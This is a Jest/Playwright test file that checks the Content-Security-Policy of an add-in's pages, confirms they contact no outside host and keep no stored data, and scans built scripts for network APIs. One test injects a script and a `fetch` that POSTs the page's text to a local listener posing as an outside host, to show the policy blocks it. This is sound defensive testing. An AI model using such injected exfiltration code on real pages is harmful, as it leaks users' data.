import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { surveyForm } from '../../src/form/surveyForm';
import { monthPage } from '../../src/month/monthPage';
import { serveFiles } from '../support/browser';
import { builtFolder } from '../support/builtFolder';
import { fakeExcelScript } from '../support/fakeExcel';
import { exampleBook } from '../support/paneBooks';
import { sharedBrowser } from '../support/sharedBrowser';

// What leaves this machine: nothing. What stays on it: nothing.

jest.setTimeout(60_000);

const DIST = builtFolder();
const built = readdirSync(DIST).filter((name) => /\.(html|css|js|json|png)$/.test(name));
const PRINTED: Readonly<Record<string, string>> = {
  'month.html': monthPage({ surveys: [], allowance: 25, tape: 5 }, { title: 'October', remark: 'Invented.' }),
  'form.html': surveyForm('The way to your table'),
};
const PAGES = [
  ...built.filter((name) => name.endsWith('.html') && !name.startsWith('sample-')),
  ...Object.keys(PRINTED),
];

/** A listener elsewhere: what really reaches it. */
async function listener(): Promise<{ origin: string; heard: string[]; close: () => void }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, heard, close: () => server.close() };
}

let browser: Browser;
let spy: Awaited<ReturnType<typeof listener>>;
beforeAll(async () => {
  browser = await sharedBrowser();
  spy = await listener();
}, 180_000);
afterAll(async () => {
  spy?.close();
  await browser?.close();
});

test('the listener elsewhere hears a page that has no policy', async () => {
  const page = await browser.newPage();
  await page.setContent('<p>free</p>');
  await page.evaluate((address) => {
    const image = document.createElement('img');
    image.src = `${address}/free.png`;
    document.body.append(image);
  }, spy.origin);
  await page.waitForFunction(() => [...document.images].every(({ complete }) => complete));
  expect(spy.heard).toEqual(['/free.png']);
  spy.heard.length = 0;
  await page.close();
});

/** The directives of a page's own policy. */
function policyOf(html: string): Map<string, string[]> {
  const content = /http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(html)?.[1] ?? '';
  return new Map(
    content.split(';').map((part) => {
      const [name = '', ...sources] = part.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

/** Where a page may take scripts and answers from: itself, and the place of the platform's script. */
const PLATFORM = 'https://appsforoffice.microsoft.com';

test('there are the pages that there should be', () => {
  expect(PAGES).toEqual(
    expect.arrayContaining(['taskpane.html', 'sheetPage.html', 'month.html', 'form.html']),
  );
});

describe.each(PAGES)('%s', (name) => {
  const html = PRINTED[name] ?? readFileSync(path.join(DIST, name), 'utf8');

  test('has a policy that lets nothing in but its own and the platform’s script', () => {
    const policy = policyOf(html);
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'none'"]);
    for (const [directive, sources] of policy) {
      for (const source of sources) {
        const allowed = ["'none'", "'self'", PLATFORM];
        if (directive === 'img-src') allowed.push('data:');
        if (directive === 'style-src' && source.startsWith("'sha256-")) continue;
        expect([directive, allowed.includes(source)]).toEqual([directive, true]);
      }
    }
  });

  test('asks for nothing but its own files, keeps nothing, and its policy stops what it should', async () => {
    const files = Object.fromEntries(
      built.map((file) => [`/${file}`, { file: path.join(DIST, file) }] as const),
    );
    const served = await serveFiles({
      ...files,
      [`/${name}`]: { text: html },
      '/office/office.js': { text: fakeExcelScript(exampleBook()) },
    });
    const context = await browser.newContext();
    const asked: string[] = [];
    // Every request of every page, worker and service worker of the context.
    context.on('request', (request) => asked.push(request.url()));
    const page = await context.newPage();
    try {
      await page.goto(`${served.origin}/${name}`, { waitUntil: 'load' });
      await page.waitForTimeout(500);
      expect(asked.length).toBeGreaterThan(0);
      expect(asked.filter((url) => !url.startsWith(served.origin) && !url.startsWith('data:'))).toEqual([]);
      expect(await context.storageState({ indexedDB: true })).toEqual({ cookies: [], origins: [] });
      const kept = await page.evaluate(async () => ({
        session: sessionStorage.length,
        workers: 'serviceWorker' in navigator ? (await navigator.serviceWorker.getRegistrations()).length : 0,
        caches: 'caches' in window ? (await caches.keys()).length : 0,
      }));
      expect(kept).toEqual({ session: 0, workers: 0, caches: 0 });
      // Its own style is let in.
      if (PRINTED[name]) {
        expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily)).not.toBe(
          '"Times New Roman"',
        );
      }
      const ran = await page.evaluate((spy) => {
        const script = document.createElement('script');
        script.textContent = 'window.ranInline = true';
        document.body.append(script);
        const image = document.createElement('img');
        image.src = `${spy}/image.png`;
        document.body.append(image);
        const styled = document.createElement('link');
        Object.assign(styled, { rel: 'stylesheet', href: `${spy}/style.css` });
        document.head.append(styled);
        fetch(`${spy}/told`, { method: 'POST', body: document.body.innerText }).catch(() => undefined);
        return 'ranInline' in window;
      }, spy.origin);
      await page.waitForTimeout(200);
      expect(ran).toBe(false);
      expect(spy.heard).toEqual([]);
    } finally {
      await context.close();
      await served.close();
    }
  });
});

test('no file of the build speaks with anyone, keeps anything or runs text as code', () => {
  const scripts = built.filter((name) => name.endsWith('.js') && !name.startsWith('office'));
  expect(scripts.length).toBeGreaterThan(3);
  for (const name of scripts.filter((script) => script !== 'sheetPage.js')) {
    const text = readFileSync(path.join(DIST, name), 'utf8');
    expect([
      name,
      text.match(
        /\b(?:XMLHttpRequest|WebSocket|EventSource|sendBeacon|fetch|RTCPeerConnection|localStorage|sessionStorage|indexedDB|serviceWorker)\b|document\.cookie|\beval\(|new Function\(/g,
      ),
    ]).toEqual([name, null]);
  }
});
